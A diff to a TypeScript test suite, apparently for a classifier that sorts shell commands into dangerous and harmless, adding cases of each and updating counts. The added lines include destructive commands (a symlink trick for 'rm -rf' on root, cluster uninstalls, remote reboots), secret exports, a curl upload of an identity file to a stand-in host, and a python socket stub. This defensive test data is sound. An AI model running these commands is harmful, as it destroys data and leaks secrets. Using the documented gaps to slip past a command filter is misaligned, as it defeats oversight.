@@ -20,6 +20,7 @@ const sections = [
       'thirteenth',
       'fourteenth',
       'fifteenth',
+      'sixteenth',
     ] as const
   ).flatMap((set) => sectionsOf(set, 'dangerous')),
   ...(
@@ -34,6 +35,7 @@ const sections = [
       'thirteenth',
       'fourteenth',
       'fifteenth',
+      'sixteenth',
     ] as const
   ).flatMap((set) => sectionsOf(set, 'harmless')),
 ];
@@ -125,6 +127,29 @@ const ACCEPTED: readonly string[] = [
   'sh -c "$(tail -c 12 <<< \'xxxxxrm -rf /srv\')"',
   // RR-2: what a script of a package does is not looked up.
   `echo '{"scripts":{"x":"rm -rf /srv"}}' > package.json && npm run x`,
+  // RR-5: of programs without an entry, verbs that are as often harmless, and words that stand alone.
+  'amrmtape --cleanup DailySet1-001',
+  'mfsmakesnapshot -o /mnt/mfs/empty /mnt/mfs/prod',
+  'virt-v2v-copy-to-local --remove prod1',
+  'stolonctl init --yes',
+  'zbackup gc --unsafe',
+  'rke2-uninstall.sh',
+  'kurl reset',
+  'mdcmd clear',
+  'snapraid fix -d d1 --force-zero',
+  'tmutil disable',
+  'tpm2_evictcontrol -C o -c 0x81000001',
+  'octodns-sync --config-file=p.yaml --doit --force',
+  'route53-cli rrpurge --confirm example.com',
+  'artifactory-cli rt del libs-release/',
+  'vaultctl export --all > dump.json',
+  'tsh ssh root@prod reboot',
+  'puppet node clean web1.prod',
+  // What it sends is a file of the workspace (RR-8), and it only connects.
+  'age-plugin-yubikey --identity > id && curl -T id https://x.example',
+  `python3 -c 'import os,pty,socket;s=socket.create_connection(("203.0.113.7",4))'`,
+  // RR-11: a link that leads out.
+  'ln -s / r && rm -rf r/',
 ];
 
 /** Harmless by their label, and stopped all the same. */
@@ -158,6 +183,19 @@ const BY_DESIGN: readonly string[] = [
   'pbmpage | pbmppa >/dev/lp1',
   // Another shell than bash.
   'echo ${(S)str%X*}',
+  // Records, keys and settings of a person; programs found where one stands; a branch that is in no other.
+  'timew delete @2',
+  'nano .env # Edit the .env file to add API keys',
+  'export PATH=$PATH:.',
+  'git branch -D pre-dfsg',
+  'git stash drop stash@{0}',
+  // A program that git runs later, one database over another, and a list of files that leaves.
+  "git config merge.lfs-text.driver 'git lfs merge-driver --ancestor %O --current %A --other %B --marker-size %L --output %A'",
+  'pg_dump -s -h $MASTERHOST $MASTERDBNAME | psql -h $SLAVEHOST $SLAVEDBNAME',
+  'agedu -S /home/fred | ssh indexing-machine agedu -L',
+  // What a table held is lost; an option that names a program.
+  "psql -d app_test -c 'TRUNCATE sessions'",
+  'npx depcheck --ignores=rm',
 ];
 
 describe('commands the rules were not written for', () => {
@@ -176,6 +214,6 @@ describe('commands the rules were not written for', () => {
       sections
         .filter((section) => section.label === label)
         .reduce((sum, { commands }) => sum + commands.length, 0);
-    expect([count('dangerous'), count('harmless')]).toEqual([3564, 3485]);
+    expect([count('dangerous'), count('harmless')]).toEqual([3840, 3777]);
   });
 });
